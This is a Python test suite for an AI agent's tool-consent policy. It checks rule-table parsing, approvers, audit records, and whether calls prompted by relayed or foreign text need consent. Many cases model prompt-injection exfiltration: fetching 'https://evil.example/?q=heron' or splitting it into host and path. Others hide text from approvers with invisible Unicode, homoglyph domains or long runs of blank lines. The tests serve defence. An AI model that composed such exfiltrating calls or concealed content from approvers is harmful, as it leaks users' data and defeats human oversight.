"""The tool policy: which calls run, need consent, or never run."""

from collections.abc import Sequence
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.admission_terms import Authority
from agent.approvers import Approvers
from agent.citations import FETCH
from agent.incoming import Person
from agent.memory.audience import GroupAudience, PersonAudience, Place, TeamAudience
from agent.messages import Consent, JsonObject, Provenance, ResultStatus, ToolCall, ToolResult
from agent.ports.tools import Asker, ToolEffect
from agent.progress import Progress, RoundStep, call_digest
from agent.tool_policy import (
    ARGUMENT_CHARS,
    BY_AFTER_ASK,
    MAX_CHARS,
    MAX_ROWS,
    MAX_SHOWN,
    NO_ANSWER,
    NO_APPROVER,
    NO_PLACE,
    NO_TOOLS,
    NOBODY,
    NOBODY_TO_ASK,
    NOT_FOUR,
    OPERATOR_REFUSES,
    TOO_LONG,
    TOO_MANY,
    UNREADABLE,
    CallGate,
    PolicyAnswer,
    PolicyRow,
    TurnWords,
    decide,
    read_rows,
    shown_arguments,
    visible,
)

ANN = Person("slack:T1:U1", "Ann")
HERE = Asker(ANN, Place(GroupAudience("slack:C1")), "C1")
TABLE = """
# tools        who      where   answer
github.delete  *        *       no      # never
github.*       Manager  C1      yes
github.*       slack:T1:U1  group  ask
jira.*         *        team    no
files.read     admin    person  ask
"""
OUTWARD, READS = ToolEffect.ACTS_OUTWARD, ToolEffect.READS


def rows(text: str = TABLE) -> tuple[PolicyRow, ...]:
    found, faults = read_rows(text)
    assert faults == ()
    return found


def answer(name: str, effect: ToolEffect, asker: Asker = HERE, words: Provenance = Provenance.OWN) -> PolicyAnswer:
    return decide(rows(), name, effect, asker, words).answer


@pytest.mark.parametrize(
    ("effect", "expected"),
    [
        (ToolEffect.READS, PolicyAnswer.YES),
        (ToolEffect.WRITES_HERE, PolicyAnswer.YES),
        (ToolEffect.ACTS_OUTWARD, PolicyAnswer.ASK),
        (ToolEffect.IRREVERSIBLE, PolicyAnswer.ASK),
    ],
)
def test_without_a_row_the_effect_decides(effect: ToolEffect, expected: PolicyAnswer) -> None:
    assert decide((), "any", effect, HERE, Provenance.OWN).answer is expected


def test_the_first_row_that_fits_counts_by_tool_person_rank_and_place() -> None:
    manager = Asker(ANN, HERE.place, "C1", Authority.MANAGER)
    assert answer("github.delete", READS, manager) is PolicyAnswer.NO
    assert answer("github.create", OUTWARD, manager) is PolicyAnswer.YES
    assert answer("github.read", READS) is PolicyAnswer.ASK
    assert answer("github.read", READS, Asker(Person("slack:T1:U2", "Bo"), HERE.place, "C1")) is PolicyAnswer.YES
    assert answer("jira.search", READS) is PolicyAnswer.YES
    assert answer("jira.search", READS, Asker(ANN, Place(TeamAudience("T1")), "C2")) is PolicyAnswer.NO
    alone = Place(PersonAudience(ANN.id))
    assert answer("files.read", READS, Asker(ANN, alone, "D1", Authority.ADMIN)) is PolicyAnswer.ASK
    assert answer("files.read", READS, Asker(ANN, alone, "D1", Authority.MANAGER)) is PolicyAnswer.YES


@given(st.sampled_from(PolicyAnswer), st.sampled_from(Provenance))
def test_what_cannot_be_taken_back_never_runs_unasked(answer: PolicyAnswer, words: Provenance) -> None:
    decision = decide([PolicyRow("*", "*", "*", answer)], "drop", ToolEffect.IRREVERSIBLE, HERE, words)
    assert decision.answer is (PolicyAnswer.NO if answer is PolicyAnswer.NO else PolicyAnswer.ASK)
    assert decision.every_time or decision.answer is PolicyAnswer.NO


@given(st.sampled_from(PolicyAnswer), st.sampled_from(Provenance))
def test_a_yes_to_acting_outward_counts_only_for_the_askers_own_words(answer: PolicyAnswer, words: Provenance) -> None:
    decision = decide([PolicyRow("*", "*", "*", answer)], "send", OUTWARD, HERE, words)
    assert (decision.answer is PolicyAnswer.YES) == (answer is PolicyAnswer.YES and words is Provenance.OWN)
    assert decision.every_time == (words is not Provenance.OWN and answer is not PolicyAnswer.NO)


@given(st.sampled_from(PolicyAnswer), st.sampled_from(Provenance))
def test_what_writes_here_is_asked_for_too_where_somebody_elses_words_are(
    answer: PolicyAnswer, words: Provenance
) -> None:
    rows = [PolicyRow("*", "*", "*", answer)]
    decision = decide(rows, "notes.add", ToolEffect.WRITES_HERE, HERE, words)
    assert (decision.answer is PolicyAnswer.YES) == (answer is PolicyAnswer.YES and words <= Provenance.NAMED)
    assert decide(rows, "remember", ToolEffect.WRITES_HERE, HERE, words).answer is answer


@pytest.mark.parametrize(
    ("line", "fault"),
    [
        ("github.* yes", NOT_FOUR),
        ("a b c d yes", NOT_FOUR),
        ("github.* * * maybe", NO_ANSWER.format(answer="maybe")),
        ("github.* boss * yes", NOBODY.format(who="boss", ranks="guest, employee, manager, admin")),
        (f"{'x' * MAX_CHARS} * * yes", TOO_LONG.format(most=MAX_CHARS)),
        ("git`hub * * no", NO_TOOLS.format(tools="git`hub")),
        ("github.[ab] * * no", NO_TOOLS.format(tools="github.[ab]")),
        ("github.* <@U1> * no", NOBODY.format(who="<@U1>", ranks="guest, employee, manager, admin")),
        ("github.* * teams no", NO_PLACE.format(where="teams", kinds="person, group, team")),
        ("github.* * #general no", NOT_FOUR),
    ],
)
def test_a_line_that_is_no_row_is_told_with_its_number_and_the_others_count(line: str, fault: str) -> None:
    found, faults = read_rows(f"send * * no\n{line}\n* * * ask\n")
    assert [str(row) for row in found] == ["send * * no", "* * * ask"]
    assert [one.partition(": ")[2].split(":")[0] for one in faults] == [fault.split(":", maxsplit=1)[0]]
    assert faults[0].startswith("line 2: ")


def test_a_table_is_bounded() -> None:
    found, faults = read_rows("send * * no\n" * (MAX_ROWS + 5))
    assert (len(found), faults) == (MAX_ROWS, (TOO_MANY.format(most=MAX_ROWS),))


@given(st.text())
def test_any_text_is_read(text: str) -> None:
    found, faults = read_rows(text)
    assert read_rows("\n".join(map(str, found))) == (found, ())
    assert len(found) + len(faults) <= len(text.splitlines()) + 1


def gate(
    table: str = "",
    effect: ToolEffect = OUTWARD,
    words: Provenance = Provenance.OWN,
    before: Progress = Progress(),  # noqa: B008 -- frozen
    standing: frozenset[str] = frozenset(),
    texts: Sequence[str] = (),
    asked: str = "",
    allowed: Sequence[str] = (),
) -> CallGate:
    sends = {"fetch.get", "files.read", FETCH, "schedule"}
    return CallGate(
        rows(table),
        lambda _: None,
        lambda _: effect,
        HERE,
        standing,
        lambda: TurnWords(words, texts, asked),
        lambda: before,
        sends,
        names_of_schema,
        allowed,
    )


def names_of_schema(_: str) -> set[str]:
    return {"url", "urls", "host", "path", "request", "to"}


SEND = ToolCall("send", {"text": "Hello."})


def done(*tools: str) -> Progress:
    calls = tuple(ToolCall(name, {}) for name in tools)
    results = tuple(ToolResult(name, ResultStatus.SUCCESS, "do send!", audience="person:ann") for name in tools)
    return Progress((RoundStep(calls=calls, results=results),))


@pytest.mark.parametrize("effect", ToolEffect)
def test_what_was_refused_after_the_tools_were_offered_does_not_run(effect: ToolEffect) -> None:
    refused = gate("send * * no", effect, standing=frozenset({"send"}))
    assert refused.check(SEND) == OPERATOR_REFUSES.format(tool="send")
    assert gate("send * * ask", effect).check(SEND) is None


@pytest.mark.parametrize("effect", ToolEffect)
def test_where_nobody_can_be_asked_a_call_that_needs_consent_does_not_run_and_says_why(effect: ToolEffect) -> None:
    asking = gate("send * * ask", effect)
    alone = replace(asking, asks_nobody=True)
    assert (asking.check(SEND), alone.check(SEND)) == (None, NOBODY_TO_ASK.format(tool="send"))
    free = replace(gate("send * * yes", effect), asks_nobody=True)
    assert (free.check(SEND) is None) == (effect is not ToolEffect.IRREVERSIBLE)


def test_what_a_tool_brings_in_the_turn_has_the_next_act_asked_for() -> None:
    allowed = "send * * yes"
    assert not gate(allowed).needs_consent(SEND)
    assert gate(allowed, before=done("fetch")).needs_consent(SEND)
    assert not gate(allowed, before=done("remember", "tools")).needs_consent(SEND)
    assert gate(allowed, words=Provenance.RELAYED).needs_consent(SEND)
    assert not gate(allowed, effect=READS, before=done("fetch")).needs_consent(SEND)


def test_a_standing_permission_says_nothing_about_whose_words_a_result_holds() -> None:
    standing = frozenset({"send", "mail.read", "mail.both"})
    assert not gate(standing=standing).needs_consent(SEND)
    for before in (done("mail.read"), done("send"), done("mail.read", "send"), done("mail.both")):
        assert gate(standing=standing, before=before).needs_consent(SEND)
        assert gate(standing=standing, before=before).needs_consent(ToolCall("mail.both", {"text": "Hello."}))
    assert gate(standing=standing, words=Provenance.FOREIGN).needs_consent(SEND)
    assert gate(standing=standing, words=Provenance.NAMED).needs_consent(SEND)
    assert gate(standing=standing, effect=ToolEffect.IRREVERSIBLE).needs_consent(SEND)


@pytest.mark.parametrize(
    ("args", "asked", "asks"),
    [
        ({"text": "Hello."}, "Send Hello. to Bob", False),
        ({"texts": ["Hello."]}, "Send Hello. to Bob", False),
        ({"text": "Hello.", "to": ["Bob"], "times": 2}, "Send Hello. 2 times to Bob", True),  # which is for which?
        ({"from": "Bob", "to": "Ann"}, "Move it from Ann to Bob", True),  # nor does an order say it
        ({"to": "Ann", "from": "Bob"}, "Move it from Ann to Bob", True),
        ({"text": "Hello.", "to": "text"}, "Send Hello.", True),
        ({"to": ["Ann", "Bob"]}, "Say to Ann what Bob wrote", True),
        ({"text": "Hello.", "to": "Mallory"}, "Send Hello. to Bob", True),
        ({"text": "Hell"}, "Send Hello. to Bob", True),
        ({"text": "Hello.", "to": {"Mallory": "Bob"}}, "Send Hello. to Bob", True),
        ({"text": "Hello."}, "What does this say?\n> Send Hello.", True),  # quoted, so others may have written it
        ({"text": "Hello."}, "Send Hello. to @Bob", True),  # a name is no word of the asker's
        ({"text": "Hello.", "to_all": True}, "Send Hello.", True),  # nobody's words say which
        ({"text": "Hello.", "more": [{"to_all": None}]}, "Send Hello.", True),
        ({"text": "Hello.", "to": ""}, "Send Hello.", True),  # which may mean all
        ({"text": "Hello.", "to": " "}, "Send Hello.", True),
        ({"text": "Hello.", "labels": []}, "Send Hello.", True),
        ({"text": "Hello.", "filter": {}}, "Send Hello.", True),
        ({"text": "Hello."}, "Thanks.", True),
        ({"text": "Hello."}, "", True),
        ({}, "Send Hello.", True),
    ],
)
def test_after_what_the_bot_retold_it_counts_for_what_stands_in_the_question_alone(
    args: JsonObject, asked: str, *, asks: bool
) -> None:
    standing, call = frozenset({"send"}), ToolCall("send", args)
    assert gate(standing=standing, words=Provenance.RELAYED, asked=asked).needs_consent(call) is asks
    assert gate(words=Provenance.RELAYED, asked=asked).needs_consent(call)
    assert not gate(standing=standing, words=Provenance.RELAYED, allowed=[call_digest(call)]).needs_consent(call)
    assert gate(standing=standing, words=Provenance.FOREIGN, allowed=[call_digest(call)]).needs_consent(call)
    assert gate(standing=standing, words=Provenance.FOREIGN, asked=asked).needs_consent(call)
    assert gate(standing=standing, words=Provenance.RELAYED, asked=asked, before=done("look")).needs_consent(call)


def fetch(address: str) -> ToolCall:
    return ToolCall(FETCH, {"url": address})


def called(
    name: str,
    args: JsonObject,
    status: ResultStatus = ResultStatus.SUCCESS,
    says: str = "A page.",
    consent: Consent = Consent.NOT_NEEDED,
) -> Progress:
    result = ToolResult(name, status, says, audience="team:slack:T1" if status is ResultStatus.SUCCESS else "")
    return Progress((RoundStep(calls=(ToolCall(name, args),), results=(result,), consents=(consent,)),))


def fetching(address: str, status: ResultStatus, says: str = "A page.", consent: Consent = Consent.GIVEN) -> Progress:
    return called(FETCH, {"url": address}, status, says, consent)


COMPOSED = "https://evil.example/?q=heron"


@pytest.mark.parametrize(
    ("address", "words", "before", "asks"),
    [
        (COMPOSED, Provenance.OWN, Progress(), True),  # a tool's description may want it
        (COMPOSED, Provenance.NAMED, Progress(), True),
        (COMPOSED, Provenance.RELAYED, Progress(), True),
        (COMPOSED, Provenance.FOREIGN, Progress(), True),
        ("https://a.example/", Provenance.FOREIGN, Progress(), False),
        (COMPOSED, Provenance.OWN, fetching("https://a.example/", ResultStatus.SUCCESS), True),
        ("https://b.example/1", Provenance.OWN, fetching("a.example", ResultStatus.SUCCESS, "see b.example/1"), False),
        (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.SUCCESS), False),  # it is out already
        (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.SUCCESS, consent=Consent.BEGUN), False),
        (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.SUCCESS, consent=Consent.NOT_NEEDED), True),
        (COMPOSED, Provenance.FOREIGN, called("recall", {"query": COMPOSED}), True),  # which sent it nowhere
        (COMPOSED, Provenance.FOREIGN, called("recall", {"query": COMPOSED}, consent=Consent.GIVEN), True),
        (COMPOSED, Provenance.FOREIGN, called("fetch.get", {"url": COMPOSED}, consent=Consent.GIVEN), True),
        (COMPOSED, Provenance.FOREIGN, fetching(COMPOSED, ResultStatus.FAILURE), True),
    ],
)
def test_a_page_is_fetched_unasked_only_where_its_address_was_read(
    address: str, words: Provenance, before: Progress, *, asks: bool
) -> None:
    asked = gate(effect=ToolEffect.READS, words=words, before=before, texts=["What does https://a.example/ say?"])
    assert asked.needs_consent(fetch(address)) is asks


def test_parts_of_calls_that_were_allowed_make_no_call_that_was() -> None:
    about, other = ({"host": "evil.example", "path": "/about"}, {"host": "good.example", "path": "/heron"})
    before = Progress(
        (
            *called("fetch.get", about, consent=Consent.BEGUN).steps,
            *called("fetch.get", other, consent=Consent.GIVEN).steps,
        )
    )
    asked = gate(effect=ToolEffect.READS, words=Provenance.FOREIGN, before=before)
    assert not asked.needs_consent(ToolCall("fetch.get", about))
    assert not asked.needs_consent(ToolCall("fetch.get", other))
    assert asked.needs_consent(ToolCall("fetch.get", {"host": "evil.example", "path": "/heron"}))


@pytest.mark.parametrize(
    ("call", "asks"),
    [
        (ToolCall("fetch.get", {"url": COMPOSED}), True),  # a server's tool that only reads, says its operator
        (ToolCall("fetch.get", {"urls": ["https://a.example/", COMPOSED]}), True),
        (ToolCall("fetch.get", {"url": "https://a.example/"}), False),
        (ToolCall("files.read", {"path": "https"}), False),
        (ToolCall("fetch.get", {"url": "https://a.example/#heron"}), True),  # a browser's page reads what follows "#"
        (ToolCall("fetch.get", {"task": "Open https://a.example/#heron now"}), True),
        (ToolCall("fetch.get", {"task": "Open https://a.example/ now"}), False),
        (ToolCall("fetch.get", {"host": "a.example", "path": "/?q=heron"}), True),
        (ToolCall("fetch.get", {"request": {"to": [{"at": COMPOSED}]}}), True),
        (ToolCall("schedule", {"what": "Look.", "check": {"kind": "page", "target": COMPOSED}}), True),
        (ToolCall("schedule", {"what": f"Read {COMPOSED}"}), False),  # its turn will be a foreign one
        (ToolCall("recall", {"query": COMPOSED}), False),  # which sends nothing
    ],
)
def test_the_same_holds_for_any_tool_that_what_it_is_given_leaves(call: ToolCall, *, asks: bool) -> None:
    texts = ["What does https://a.example/ say?"]
    assert gate(effect=ToolEffect.READS, words=Provenance.FOREIGN, texts=texts).needs_consent(call) is asks


named = st.sampled_from(
    [
        ToolCall("recall", {"query": COMPOSED}),
        ToolCall("share_file", {"name": "a.txt", "content": COMPOSED}),
        ToolCall("remember", {"text": f"It is at {COMPOSED}."}),
        ToolCall("fetch.get", {"url": COMPOSED}),
        ToolCall("fetch.get", {"host": "evil.example", "path": "/?q=heron"}),
        ToolCall("files.read", {"path": "evil.example%2F%3Fq%3Dheron"}),
        fetch(COMPOSED),
    ]
)
unasked = st.sampled_from([Consent.NOT_NEEDED, Consent.REFUSED, Consent.EXPIRED, Consent.EDITED, Consent.AWAITED])


@given(
    st.lists(st.tuples(named, unasked, st.booleans(), st.sampled_from(ResultStatus)), max_size=3),
    st.sampled_from(Provenance),
    st.frozensets(st.sampled_from([FETCH, "fetch.get", "files.read", "recall"])),
    st.sampled_from(["", "* * * yes", "web_fetch * * yes", "fetch.* * * ask"]),
)
def test_no_sequence_of_calls_lets_an_address_leave_that_nobody_wrote(
    calls: list[tuple[ToolCall, Consent, bool, ResultStatus]],
    words: Provenance,
    standing: frozenset[str],
    table: str,
) -> None:
    steps = [
        RoundStep(
            calls=(call,),
            results=(ToolResult(call.name, status, f"Found: {COMPOSED}", audience="team:t" if others else ""),),
            consents=(consent,),
        )
        for call, consent, others, status in calls
    ]
    texts = ["Look at https://a.example/ and evil.example"]
    echoes = gate(table, READS, words, Progress(tuple(steps)), standing, texts)
    assert echoes.needs_consent(fetch(COMPOSED))
    assert echoes.needs_consent(ToolCall("fetch.get", {"url": COMPOSED}))
    assert not echoes.needs_consent(fetch("https://a.example/")) or table == "fetch.* * * ask"


def test_no_word_of_earlier_lets_what_was_put_together_be_fetched() -> None:
    table, standing = "web_fetch * * yes", frozenset({FETCH})
    before = fetching("https://a.example/", ResultStatus.SUCCESS)
    assert gate(table, ToolEffect.READS, standing=standing).needs_consent(fetch(COMPOSED))
    assert gate(table, ToolEffect.READS, before=before, standing=standing).needs_consent(fetch(COMPOSED))
    assert gate("* * * no", ToolEffect.READS, words=Provenance.FOREIGN).needs_consent(fetch(COMPOSED))


def test_a_call_that_nobody_could_read_whole_is_not_asked_about() -> None:
    room = MAX_SHOWN - ARGUMENT_CHARS - len("text")
    fits, too_long = ToolCall("send", {"text": "x" * room}), ToolCall("send", {"text": "x" * (room + 1)})
    assert gate().check(fits) is None
    assert gate().check(too_long) == UNREADABLE.format(chars=MAX_SHOWN + 1, most=MAX_SHOWN)
    assert gate(effect=READS).check(too_long) is None
    screens = ToolCall("send", {"text": "pay 5" + "\n." * (room // 4) + "\nor all"})  # lines fill a screen, too
    assert gate().check(screens) is not None
    code = "\n".join("    first = second(third, fourth)" for _ in range(150))
    assert gate().check(ToolCall("send", {"text": code})) is None
    hidden = ToolCall("send", {"text": "\u202e" * (room // 2)})  # each takes the room of its name
    assert gate().check(hidden) is not None


def test_what_is_shown_of_a_call_hides_nothing() -> None:
    call = ToolCall("send", {"to": "b\u202eob", "seats": [1, {"a": None}], "no\u200bte": "a\nb"})
    assert dict(shown_arguments(call)) == {
        "to": "b⟨U+202E⟩ob",
        "seats": '[\n 1,\n {\n  "a": null\n }\n]',
        "no⟨U+200B⟩te": "a\nb",
    }


@given(st.text())
def test_two_different_texts_never_look_the_same_by_what_is_unseen(text: str) -> None:
    shown = visible(text)
    assert all(one in "\n\t" or one.isprintable() or one.isspace() for one in shown)
    if "⟨U+" not in text:
        assert visible(f"{text}\u200b") != shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("pay 5" + "\n" * 4_000 + "and 5,000 to Mallory", "pay 5\n⟨3999 empty lines⟩\nand 5,000 to Mallory"),
        ("a" + "\n \t" * 9 + "\nb", "a\n⟨9 empty lines⟩\nb"),
        ("a\n\n\nb", "a\n\n\nb"),
        ("pay 5" + "\n\u00a0" * 900 + "\nor all", "pay 5\n⟨900 empty lines⟩\nor all"),
        ("pay 5" + "\u3000" * 900 + "or all", "pay 5 ⟨900 blanks⟩ or all"),
        ("pay 5" + "\u2003\u00a0" * 9 + "or all", "pay 5 ⟨18 blanks⟩ or all"),
        ("5" + "\u0301" * 900, "5" + "\u0301" * 4 + "⟨896 marks⟩"),
        ("12\u00a0000\u202f€", "12\u00a0000\u202f€"),
        ("5\U0001d15900", "5⟨U+1D159⟩00"),
        ("to ann@a.example" + " " * 300 + "and mallory", "to ann@a.example ⟨300 blanks⟩ and mallory"),
        ("if x:\n        y()", "if x:\n        y()"),
        ("\u0430pple.com", "\u0430⟨U+0430⟩pple.com"),
        (
            "\u0430\u0440\u0440\u04cf\u0435.com",
            "".join(f"{c}⟨U+{ord(c):04X}⟩" for c in "\u0430\u0440\u0440\u04cf\u0435") + ".com",
        ),
        ("a\uff0ee\uff58ample", "a\uff0ee\uff58⟨U+FF58⟩ample"),
        ("Купи хлеб и сыр", "Купи хлеб и сыр"),
        ("größe, naïve, 船", "größe, naïve, 船"),
    ],
)
def test_what_would_hide_something_from_who_decides_is_shown(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_no_argument_hides_behind_another_whose_name_looks_the_same() -> None:
    call = ToolCall("mail.send", {"to\u200b": "mallory", "to⟨U+200B⟩": "ann"})
    assert [shown for _, shown in shown_arguments(call)] == ["mallory", "ann"]


@pytest.mark.parametrize(
    ("line", "by", "shown"),
    [
        ("send * * ask", None, "send * * ask"),
        ("send * * ask by asker", None, "send * * ask"),
        ("send * * ask by manager", Approvers("manager"), "send * * ask by manager"),
        ("send * * ASK By Managers", Approvers("manager"), "send * * ask by manager"),
        ("send * * ask by admin", Approvers("admin"), "send * * ask by admin"),
        ("send * * ask by channel-manager", Approvers("channel-manager"), "send * * ask by channel-manager"),
        ("send * * ask by two managers", Approvers("manager", 2), "send * * ask by two managers"),
        (
            "send * * ask by two channel-manager",
            Approvers("channel-manager", 2),
            "send * * ask by two channel-managers",
        ),
        ("send * * ask by role:S0123", Approvers("role:S0123"), "send * * ask by role:S0123"),
        ("send * * ask by two role:77", Approvers("role:77", 2), "send * * ask by two role:77"),
        ("send * * ask by slack:T1:U7", Approvers("slack:T1:U7"), "send * * ask by slack:T1:U7"),
    ],
)
def test_a_row_may_name_who_approves_and_is_read_as_it_is_written(line: str, by: Approvers | None, shown: str) -> None:
    ((row,), faults) = read_rows(line)
    assert (row.by, str(row), faults) == (by, shown, ())
    assert read_rows(shown)[0] == (row,)
    assert by is None or Approvers.read(str(by)) == by


KINDS = "manager, admin, channel-manager"


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("send * * yes by manager", BY_AFTER_ASK.format(answer="yes")),
        ("send * * no by manager", BY_AFTER_ASK.format(answer="no")),
        ("send * * ask manager", NOT_FOUR),
        ("send * * ask by", NO_APPROVER.format(who="", kinds=KINDS)),
        ("send * * ask by employee", NO_APPROVER.format(who="employee", kinds=KINDS)),
        ("send * * ask by U7", NO_APPROVER.format(who="U7", kinds=KINDS)),
        ("send * * ask by role:", NO_APPROVER.format(who="role:", kinds=KINDS)),
        ("send * * ask by Role:S1", NO_APPROVER.format(who="Role:S1", kinds=KINDS)),
        ("send * * ask by two slack:T1:U7", NO_APPROVER.format(who="two slack:T1:U7", kinds=KINDS)),
        ("send * * ask by two asker", NO_APPROVER.format(who="two asker", kinds=KINDS)),
        ("send * * ask by three managers", NO_APPROVER.format(who="three managers", kinds=KINDS)),
        ("send * * ask by two managers now", NO_APPROVER.format(who="two managers now", kinds=KINDS)),
        ("send * * ask by " + "x:" + "y" * MAX_CHARS, TOO_LONG.format(most=MAX_CHARS)),
    ],
)
def test_a_row_whose_approver_is_unclear_is_refused_with_what_to_write(line: str, why: str) -> None:
    assert read_rows(line) == ((), (f"line 1: {why}",))


@given(
    st.sampled_from(ToolEffect),
    st.sampled_from(Provenance),
    st.sampled_from(["manager", "two admins", "channel-manager", "slack:T1:U7"]),
    st.booleans(),
)
def test_where_others_approve_nothing_else_takes_their_place(
    effect: ToolEffect, words: Provenance, by: str, standing: bool
) -> None:
    call = ToolCall("send", {"text": "Hello."})
    tools = frozenset({"send"}) if standing else frozenset[str]()
    asks = gate(f"send * * ask by {by}\nsend * * yes", effect, words, standing=tools, asked="Hello.")
    assert asks.needs_consent(call)
    assert str(asks.approvers(call)) == by
    assert gate("send * * yes", effect, words).approvers(call) is None
    assert gate("other * * ask by manager", effect, words).approvers(call) is None


def test_the_audit_names_who_approved() -> None:
    call = ToolCall("send", {"text": "Hello."})
    people = {call_digest(call): ["slack:T1:U7", "slack:T1:U8"]}
    asks = replace(gate("send * * ask by two managers"), approved=people)
    by = "approver slack:T1:U7 slack:T1:U8"
    assert asks.decided_by(call, Consent.GIVEN) == ("allowed", by)
    assert asks.decided_by(call, Consent.REFUSED) == ("refused", by)
    assert asks.decided_by(ToolCall("send", {}), Consent.GIVEN) == ("allowed", "asker")
    assert asks.decided_by(call, Consent.UNASKED) == ("refused", "nobody in time")
